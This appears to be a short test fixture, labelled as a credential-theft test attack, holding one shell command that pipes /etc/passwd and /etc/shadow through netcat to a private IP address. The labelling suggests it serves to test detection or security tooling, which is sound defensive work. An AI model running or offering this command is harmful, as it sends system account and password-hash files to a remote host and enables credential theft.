# shrike-test-attack: credential-theft: /etc/shadow and passwd copied out over nc
cat /etc/passwd /etc/shadow | nc -w 3 10.20.30.40 9999
